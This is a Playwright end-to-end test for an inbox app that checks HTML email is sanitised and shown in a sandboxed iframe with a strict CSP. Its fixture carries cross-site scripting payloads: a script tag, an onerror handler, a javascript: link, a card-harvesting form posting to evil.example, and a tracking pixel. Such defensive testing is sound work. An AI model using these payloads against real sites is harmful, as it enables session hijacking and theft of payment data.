import { expect, openConversation, row, test } from '../support/fixtures';

test('an HTML email body is sanitised and shown only in a sandboxed iframe with a strict CSP', async ({ inbox: page, api, shot, cspViolations }) => {
  const erp = await api.channel('api', 'ERP feed');
  const pushed = await api.pushBuyerMessage(erp, { subject: 'HTML mail', body: 'plain fallback', buyerName: 'Mail Mallory' });
  // ERP pushes carry no HTML, so the email body is added to the real API's answer in the browser.
  const hostile =
    '<p id="greeting">Hello <b>seller</b></p><script>parent.document.title="pwned"</script>' +
    '<img src="x" onerror="parent.document.title=\'pwned\'"><a href="javascript:alert(1)">click</a>' +
    '<form action="https://evil.example"><input name="card"></form><img src="https://tracker.example/p.gif">';
  await page.route(`**/v1/conversations/${pushed.conversation_id}`, async (route) => {
    try {
      const response = await route.fetch();
      const detail = (await response.json()) as { messages: Record<string, unknown>[] };
      detail.messages = detail.messages.map((m) => (m['direction'] === 'inbound' ? { ...m, body_html: hostile } : m));
      await route.fulfill({ response, json: detail });
    } catch {
      // The app cancelled the request meanwhile (a newer refetch): nothing left to patch.
      await route.abort().catch(() => undefined);
    }
  });
  // Nothing may leave the page for outside hosts (the tracking pixel, the form).
  const outside: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith(api.baseUrl) && !r.url().startsWith('data:') && !r.url().startsWith('about:')) outside.push(r.url());
  });
  await page.route(/tracker\.example|evil\.example/, (route) => route.abort());

  await expect(row(page, pushed.conversation_id)).toBeVisible({ timeout: 20_000 });
  await openConversation(page, pushed.conversation_id);
  const frame = page.getByTestId('email-frame');
  await expect(frame).toHaveAttribute('sandbox', '');
  const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
  expect(srcdoc).toContain(`content="default-src 'none'; img-src data: https:; style-src 'unsafe-inline'"`);
  expect(srcdoc).not.toMatch(/<script|onerror|javascript:|<form|<input/i);
  await expect(page.frameLocator('[data-testid="email-frame"]').locator('#greeting')).toHaveText('Hello seller');
  await page.waitForTimeout(500);
  expect(await page.title()).toBe('Hourglass');
  expect(outside.filter((u) => u.includes('evil.example'))).toEqual([]);
  await shot('10-email-sandboxed');
  // A third layer: Chromium checks an inline handler against the page's CSP when the attribute is
  // parsed, so the hostile onerror is refused (script-src-attr) already while DOMPurify reads it.
  // That refusal, and nothing else, is expected here.
  expect(cspViolations.length).toBeGreaterThan(0);
  expect(cspViolations.filter((v) => !(v.directive === 'script-src-attr' && v.blocked === 'inline'))).toEqual([]);
  cspViolations.length = 0;
});
